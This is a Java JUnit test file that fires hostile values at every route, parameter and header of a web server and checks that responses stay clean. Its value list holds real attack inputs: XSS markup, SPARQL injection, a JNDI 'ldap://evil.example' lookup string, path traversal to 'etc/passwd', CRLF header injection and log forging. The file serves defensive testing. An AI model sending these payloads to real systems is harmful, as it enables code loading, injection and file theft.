package dawen.serve;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dawen.query.CannedQuery;
import dawen.query.Catalogue;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.LoggerFactory;

/** Values that nobody means, in every place of an address, at every route of the server. */
class HostileValuesTest {

  /** An element that stands in a page only where a value was taken for markup. */
  private static final String ELEMENT = "<zqx";

  /** Percent-encoded, as they stand in an address. */
  private static final List<String> VALUES =
      List.of(
          "",
          "+",
          "%22%27%3E%3Czqx%20onload=1%3E",
          "%3C/textarea%3E%3C/script%3E%3Czqx%3E",
          "javascript:%3Czqx%3E",
          "%22%20%7D%20UNION%20%7B%20?a%20?b%20?c%20%7D%20%23",
          "%27)%20%7D%20;%20DROP%20ALL%20%23",
          "urn:x%3E%20%7D%20%3Czqx%3E",
          "https://w3id.org/dawen/topic/x%3E%20%0a%3Czqx%3E",
          "http://%5Bbad",
          "//evil.example/x",
          "$%7Bjndi:ldap://evil.example/x%7D%7B%7B7*7%7D%7D",
          "%5C",
          "%00",
          "a%00b",
          "%01%07%1b%5b2J",
          "%0d%0aX-Injected:%201",
          "a%0aERROR%20o.e.Fake%20-%20all%20is%20lost",
          "%C2%85",
          "%C3%A9",
          "%E2%80%A8",
          "%C2%9b2J%E2%80%AEtxet%E2%80%AC%E2%81%A6x",
          "%F0%9F%98%80",
          "%ff",
          "%C0%AE%C0%AE",
          "%ED%A0%80",
          "%E5%B9",
          "%zz",
          "%",
          "%u0041",
          "1e999",
          "99999999999999999999",
          "-1",
          "0000",
          "1000000000",
          "9223372036854775808",
          "NaN",
          "0.1",
          "%EF%BC%92%EF%BC%90%EF%BC%93%EF%BC%91",
          "0000-00-00",
          "2031-02-30",
          "999999999-12-31",
          "..%2f..%2fetc%2fpasswd",
          "%2e%2e%2f%2e%2e%2f",
          "..%252f..%252f",
          "%E7%9A%84",
          "(".repeat(10_000),
          "%22".repeat(20_000),
          "%E9%95%BF".repeat(6_000),
          "a".repeat(60_000));

  @TempDir static Path folder;
  private static Running running;
  private static final ListAppender<ILoggingEvent> LOG = new ListAppender<>();

  @BeforeAll
  static void start() {
    running = Running.in(folder, OpenApiTest::shipped);
    LOG.start();
    root().addAppender(LOG);
  }

  @AfterAll
  static void stop() {
    root().detachAppender(LOG);
    running.close();
  }

  private static Logger root() {
    return (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
  }

  /** Addresses with {@code @} where a value stands. */
  static Stream<String> routes() {
    List<String> routes = new ArrayList<>();
    Map.of(
            "/search", "q in from to sort view page year outlet country topic names transcript zqx",
            "/timeline", "by in level value all zqx",
            "/network", "of year except least zqx",
            "/topics", "year topic zqx",
            "/compare", "by a b zqx",
            "/side-by-side", "a b topic year zqx",
            "/quality", "zqx",
            "/queries", "q lang zqx",
            "/sparql", "draft example default-graph-uri lang zqx",
            "/sparql?query=ASK%7B%7D", "format output results timeout default-graph-uri callback")
        .forEach((path, names) -> of(path, names, routes));
    of("/search.csv", "q page", routes);
    of("/search.ttl", "q", routes);
    of("/api/exchanges.csv", "_limit _offset limit lang zqx", routes);
    of("/queries/exchanges", "_limit _offset limit lang zqx", routes);
    parameters().forEach((name, query) -> of("/api/" + query + ".json", name, routes));
    parameters().forEach((name, query) -> of("/queries/" + query, name, routes));
    Stream.of(
            "/@ /?@=@ /api/@ /api/exchanges.@ /queries/@ /data/@ /web/@ /$/@ /ontology/@ /schema/@")
        .flatMap(paths -> Stream.of(paths.split(" ")))
        .forEach(routes::add);
    Stream.of("/outlet/@ /outlet/@.ttl /outlet/@/exchanges.csv /exchange/@ /conference/2031/@")
        .flatMap(paths -> Stream.of(paths.split(" ")))
        .forEach(routes::add);
    routes.addAll(List.of("/sparql?query=@", "/search?@=@", "/search?year=2031&year=@"));
    return routes.stream();
  }

  private static void of(String path, String names, List<String> routes) {
    for (String name : names.split(" ")) {
      routes.add(path + (path.contains("?") ? "&" : "?") + name + "=@");
    }
  }

  /** Each name of a parameter, with a query that has it. */
  private static Map<String, String> parameters() {
    Map<String, String> parameters = new TreeMap<>();
    for (CannedQuery query : Catalogue.bundled().list()) {
      query.parameters().forEach(each -> parameters.putIfAbsent(each.name(), query.name()));
    }
    return parameters;
  }

  @ParameterizedTest
  @MethodSource("routes")
  void aValueIsAnsweredOrRefused(String route) {
    for (String value : VALUES) {
      check(ask(route.replace("@", value), "text/html"));
    }
    for (String value : VALUES.subList(2, 20)) {
      check(ask(route.replace("@", value), "*/*"));
    }
    assertEquals(List.of(), LOG.list.stream().map(Object::toString).toList());
  }

  private static Raw ask(String address, String accept) {
    String head = "GET %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAccept: %s\r\n\r\n";
    return Raw.send(running.server, head.formatted(address, accept));
  }

  private static void check(Raw answer) {
    assertTrue(answer.status() >= 200 && answer.status() < 500, answer.toString());
    assertFalse(OddRequestsTest.tellsOfTheProgram(answer.body()), answer.toString());
    assertTrue(answer.header("X-Injected").isEmpty(), answer.head());
    String type = answer.header("Content-Type").orElse("");
    if (type.startsWith("text/html")) {
      assertFalse(answer.body().contains(ELEMENT), answer.toString());
    } else if (answer.status() >= 400) {
      boolean plain = type.startsWith("text/plain") || type.equals("application/problem+json");
      assertTrue(plain, answer.toString());
    }
    if (answer.status() >= 400 || type.startsWith("text/html")) {
      assertTrue(answer.body().chars().noneMatch(HostileValuesTest::steers), answer.toString());
    }
  }

  /** Whether a character acts on a terminal; no page may have one either. */
  private static boolean steers(int character) {
    return Character.isISOControl(character) && "\t\n\r".indexOf(character) < 0;
  }

  /** What a header has is looked through for the best of it, and for nothing else. */
  @ParameterizedTest
  @CsvSource({
    "Accept",
    "Accept-Language",
    "Accept-Encoding",
    "Cookie",
    "If-None-Match",
    "Range",
    "Origin",
    "Referer",
    "User-Agent",
    "If-Modified-Since",
    "Accept-Charset"
  })
  void aHeaderIsHeededOrNot(String name) {
    List<String> values =
        List.of("", "<zqx>", "\"", ",;q=,", "*;q=1e999", "a".repeat(60_000), ",".repeat(60_000));
    for (String path : List.of("/", "/search", "/api/exchanges.csv", "/sparql", "/outlet/a")) {
      for (String value : values) {
        String head = "GET %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n%s: %s\r\n\r\n";
        check(Raw.send(running.server, head.formatted(path, name, value)));
      }
    }
  }

  /** A refusal is said in the query's own characters. */
  @Test
  void aFaultyQueryIsToldInAnyScript() {
    for (String prefix : List.of("é", "甲", "乙甲")) {
      var answer = running.ask("ASK { ?s " + prefix + ":a ?b }");
      assertEquals(400, answer.statusCode(), answer.body());
      assertTrue(answer.body().contains("Unresolved prefixed name: " + prefix), answer.body());
    }
  }
}
